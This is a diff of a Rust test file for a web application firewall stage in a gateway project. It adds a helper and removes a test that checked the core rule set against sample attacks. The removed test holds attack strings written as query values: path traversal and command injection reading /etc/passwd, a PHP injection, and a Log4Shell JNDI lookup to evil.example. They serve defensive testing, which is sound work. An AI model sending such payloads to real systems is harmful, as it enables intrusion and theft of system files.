@@ -1,5 +1,7 @@
 //! The `waf` stage end to end: attacks are refused wherever they are, and what is harmless passes as it came.
 
+mod core_rule_set;
+
 use std::io::Write as _;
 
 use gatewright_tests::{Origin, RawClient, RawResponse, TestGateway, http};
@@ -15,6 +17,14 @@ fn gateway(origin: &Origin, keys: &str) -> TestGateway {
              integration = {{ http = \"app\" }}\n"
         ),
     ))
+}
+
+/// One that answers by itself, for many requests.
+fn answering(keys: &str) -> TestGateway {
+    TestGateway::start(&listening(&format!(
+        "[access_log]\noutput = \"off\"\n[[route]]\nname = \"all\"\npath = \"/{{rest*}}\"\n\
+         chain = [{{ use = \"waf\"{keys} }}]\nintegration = {{ respond = 200 }}\n"
+    )))
 }
 
 fn get(gateway: &TestGateway, target: &str, fields: &[(&str, &str)]) -> RawResponse {
@@ -290,40 +300,6 @@ fn rules_are_read_from_files_and_folders_and_decide_by_their_points() {
     assert_eq!(records[1]["waf"], "rules at query:q (7 +6)");
 }
 
-#[test]
-fn the_core_rule_set_is_run_as_it_is_published() {
-    let rules = std::path::Path::new("/usr/share/modsecurity-crs/rules");
-    if !rules.is_dir() {
-        println!(
-            "skipped: {} is not there; the package modsecurity-crs has it",
-            rules.display()
-        );
-        return;
-    }
-    let origin = Origin::saying("ok");
-    let keys = format!(", rules = [\"/etc/modsecurity/crs/crs-setup.conf\", {rules:?}], paranoia = 1");
-    let gateway = gateway(&origin, &keys);
-    let fields = [("user-agent", "curl/8.5.0"), ("accept", "*/*")];
-    for attack in [
-        "/a?q=../../../../etc/passwd",
-        "/a?q=%3Bcat+/etc/passwd",
-        "/a?q=%3C%3Fphp+phpinfo%28%29%3B",
-        "/a?q=$%7Bjndi:ldap://evil.example/a%7D",
-    ] {
-        assert_eq!(get(&gateway, attack, &fields).status, 403, "{attack}");
-    }
-    assert_eq!(get(&gateway, "/a?q=hello+world", &fields).status, 200);
-    let records = gateway.wait_for_records(5);
-    assert!(
-        records[0]["waf"]
-            .as_str()
-            .unwrap()
-            .contains("rules at query:q (930120 +5)"),
-        "{}",
-        records[0]["waf"]
-    );
-}
-
 /// A line of the collections as a value of a query: it is percent-encoded, more or less.
 fn in_query(line: &str) -> String {
     let is_escape = |at: usize| {
@@ -357,10 +333,7 @@ fn refused(client: &mut RawClient, text: &str) -> (usize, usize) {
 #[test]
 fn attacks_that_others_collected_are_blocked_and_hardly_anything_harmless_is() {
     let Some(folder) = data("libinjection") else { return };
-    let gateway = TestGateway::start(&listening(
-        "[access_log]\noutput = \"off\"\n[[route]]\nname = \"all\"\npath = \"/a\"\nchain = [{ use = \"waf\" }]\n\
-         integration = { respond = 200 }\n",
-    ));
+    let gateway = answering("");
     let mut client = RawClient::connect(gateway.addr("public"));
     let mut share = |file: &str| {
         let text = String::from_utf8_lossy(&std::fs::read(folder.join(file)).unwrap()).into_owned();
